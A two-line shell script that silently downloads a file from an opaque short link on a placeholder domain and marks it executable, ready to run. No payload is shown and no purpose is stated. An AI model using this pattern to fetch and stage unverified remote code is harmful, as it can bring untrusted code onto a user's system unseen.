#!/bin/sh
curl -sLo setup https://short-link.invalid/x; chmod +x setup
